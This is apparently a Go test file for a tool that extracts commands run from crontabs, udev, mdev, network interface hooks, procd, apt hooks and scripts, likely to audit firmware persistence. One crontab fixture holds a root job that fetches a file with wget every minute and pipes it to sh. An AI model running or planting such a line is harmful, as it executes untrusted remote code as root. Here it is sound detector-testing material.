package job

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"assay"
	"assay/lab/fact"
	"assay/lab/survey"
)

func told(t testing.TB, text string) string {
	t.Helper()
	var b strings.Builder
	in := &survey.Input{Content: assay.Bytes(text), Ctx: context.Background(), Kind: "text", Limits: assay.DefaultLimits()}
	if err := Survey.Read(in, func(v any) {
		j := v.(fact.Job)
		fmt.Fprintf(&b, "%d %s [%s] %s: %s <%s>\n", j.Line, j.Syntax, j.When, j.User, j.Command, j.Program)
	}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

var samples = []struct{ name, src, want string }{
	{"system table", "# cron\nSHELL=/bin/sh\n\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n* * * * * root wget -q http://x/y -O- | sh\n",
		"4 system-crontab [17 * * * *] root: cd / && run-parts --report /etc/cron.hourly <cd>\n5 system-crontab [* * * * *] root: wget -q http://x/y -O- | sh <wget>\n"},
	{"user table", "*/5 * * * * /usr/bin/check\n@reboot sleep 5 && /bin/x\n0 3 * * mon wget -q http://x/\n",
		"1 crontab [*/5 * * * *] : /usr/bin/check </usr/bin/check>\n2 crontab [@reboot] : sleep 5 && /bin/x <sleep>\n3 crontab [0 3 * * mon] : wget -q http://x/ <wget>\n"},
	{"udev", "ACTION==\"add\", SUBSYSTEM==\"block\", RUN+=\"/etc/mount.sh %k\"\nKERNEL==\"x\", RUN{builtin}+=\"kmod load\", RUN{program}+=\"/bin/y\"\n",
		"1 udev [ACTION==\"add\", SUBSYSTEM==\"block\"] root: /etc/mount.sh %k </etc/mount.sh>\n2 udev [KERNEL==\"x\"] root: /bin/y </bin/y>\n"},
	{"mdev", "null root:root 666\nsd[a-z] root:disk 660 */etc/auto.sh\nttyUSB0 0:0 0600 @ln -s x y\n", "2 mdev [sd[a-z] *] root: /etc/auto.sh </etc/auto.sh>\n3 mdev [ttyUSB0 @] root: ln -s x y <ln>\n"},
	{"interfaces", "auto eth0\niface eth0 inet dhcp\n  up /etc/fw.sh start\n\tpre-up ip link set up\n", "3 interfaces [up eth0] root: /etc/fw.sh start </etc/fw.sh>\n4 interfaces [pre-up eth0] root: ip link set up <ip>\n"},
	{"hotplug2", "SUBSYSTEM == block {\n\texec /sbin/hotplug2.mount ;\n}\n", "2 hotplug2 [SUBSYSTEM == block] root: /sbin/hotplug2.mount </sbin/hotplug2.mount>\n"},
	{"procd", "[\n [ \"case\", \"ACTION\", {\n  \"add\": [ \"exec\", \"/sbin/hotplug-call\", \"%SUBSYSTEM%\" ] } ] ]\n", "3 procd [] root: /sbin/hotplug-call %SUBSYSTEM% </sbin/hotplug-call>\n"},
	{"apt", "DPkg::Post-Invoke {\"/usr/bin/x || true\";};\n// DPkg::Post-Invoke {\"y\";};\n", "1 apt [DPkg::Post-Invoke] root: /usr/bin/x || true </usr/bin/x>\n"},
	{"script", "#!/bin/sh\ncurl x\n", "1 script [] : #!/bin/sh </bin/sh>\n"},
	{"openwrt", "[ \"$ACTION\" = ifup ] || exit 0\n/etc/init.d/fw reload\n", "1 script [] : [ \"$ACTION\" = ifup ] || exit 0 <>\n"},
	{"prose", "This folder holds tables.\nIt is empty.\n", ""},
	{"numbers", "1 2 3 4 5\n", ""},
	{"nothing", "", ""},
}

func TestRead(t *testing.T) {
	for _, c := range samples {
		if got := told(t, c.src); got != c.want {
			t.Errorf("%s: got\n%swant\n%s", c.name, got, c.want)
		}
	}
}

func TestSelects(t *testing.T) {
	for name, want := range map[string]bool{
		"etc/crontab": true, "etc/crontabs/root": true, "var/spool/cron/crontabs/root": true, "etc/cron.d/x": true, "etc/cron.daily/y": true,
		"etc/hotplug.d/iface/10-x": true, "lib/udev/rules.d/60-x.rules": true, "etc/mdev.conf": true, "etc/ppp/ip-up.d/x": true,
		"etc/network/interfaces": true, "etc/ppp/ip-up": false, "etc/passwd": false, "usr/share/x.rules": false,
	} {
		if got := selects(&survey.Subject{Name: name, Kind: "text", Size: 10}); got != want {
			t.Errorf("%s: %v", name, got)
		}
	}
	if !selects(&survey.Subject{Name: "etc/ppp/ip-up", Kind: "script", Size: 10}) {
		t.Error("the hook of pppd")
	}
}

func FuzzRead(f *testing.F) {
	for _, c := range samples {
		f.Add(c.src)
	}
	f.Fuzz(func(t *testing.T, src string) { told(t, src) })
}
